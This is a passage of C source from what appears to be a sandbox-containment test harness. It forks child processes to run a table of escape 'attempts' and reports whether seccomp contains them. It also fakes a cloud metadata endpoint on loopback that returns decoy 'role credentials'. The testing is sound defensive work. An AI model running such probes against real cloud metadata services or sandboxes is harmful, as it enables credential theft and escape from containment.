	pid_t pid, ended = 0;
	int status = 0, waited;

	fflush(stdout);
	pid = fork();
	if (pid == 0)
		make(a);
	for (waited = 0; pid > 0 && waited < PATIENCE_MS; waited += 2) {
		ended = waitpid(pid, &status, WNOHANG);
		if (ended != 0)
			break;
		nap(2);
	}
	if (pid < 0 || ended < 0)
		printf("%s\tundecided: %s\n", a->name, strerror(errno));
	else if (ended == 0)
		printf("%s\tundecided: no end in %d ms\n", a->name, PATIENCE_MS);
	else if (WIFSIGNALED(status) && WTERMSIG(status) == SIGSYS)
		printf("%s\tcontained: SIGSYS\n", a->name);
	else if (WIFSIGNALED(status))
		printf("%s\tundecided: signal %d\n", a->name, WTERMSIG(status));
	if (ended == 0 && pid > 0) {
		kill(pid, SIGKILL);
		waitpid(pid, &status, 0);
	}
	fflush(stdout);
}

static void list(void)
{
	const struct attempt *a;

	for (a = table; a < table + COUNT(table); a++)
		printf("%s\t%s\t%s\t%c\t%s\t%s\t%s\n", a->name, a->class, where_word[a->where], a->seen,
		    a->target ? a->target : "-", a->imitates, a->damage);
}

/* A network with the cloud's address in it, and somebody there. */
static void prepare_box(void)
{
	struct ifreq r = { .ifr_name = "lo" };
	struct sockaddr_in a = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), peer;

	in_box = 1;
	inet_pton(AF_INET, METADATA, &a.sin_addr);
	memcpy(&r.ifr_addr, &a, sizeof(a));
	if (ioctl(fd, SIOCSIFADDR, &r) != 0)
		return;
	r.ifr_flags = IFF_UP | IFF_LOOPBACK | IFF_RUNNING;
	a.sin_port = htons(80);
	if (ioctl(fd, SIOCSIFFLAGS, &r) != 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) != 0 ||
	    listen(fd, 4) != 0 || fork() != 0)
		return;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while ((peer = accept(fd, NULL, NULL)) >= 0) {
		(void)!write(peer, "role credentials\n", 17);
		close(peer);
	}
	_exit(0);
}

static void make_group(const char *group)
{
	const struct attempt *a;

	for (a = table; a < table + COUNT(table); a++)
		if (a->where != ALONE && (strcmp(group, where_word[a->where]) == 0 ||
		    (strcmp(group, "all") == 0 && a->where != TTY)))
			make_apart(a);
}

int main(int argc, char **argv)
{
	const struct attempt *a;
	const char *what = argc > 1 ? argv[1] : "nothing";

	self = argv[0];
	values = argv + (argc > 1 ? 2 : 1);
	jailed = getenv("OXG_RUN_ID") != NULL;
	workspace = getenv("OXG_WORKSPACE") ? getenv("OXG_WORKSPACE") : workspace;
	temporary = getenv("TMPDIR") ? getenv("TMPDIR") : temporary;
	if (strcmp(what, "nothing") == 0)
		return 0;
	if (strcmp(what, "idle") == 0)
		return nap(1000), 0;
	if (strcmp(what, "list") == 0)
		return list(), 0;
	if (strcmp(what, "box") == 0)
		prepare_box();
	for (a = table; a < table + COUNT(table); a++)
		if (strcmp(what, a->name) == 0)
			make(a);
	make_group(in_box ? "boxed" : what);
	return 0;
}
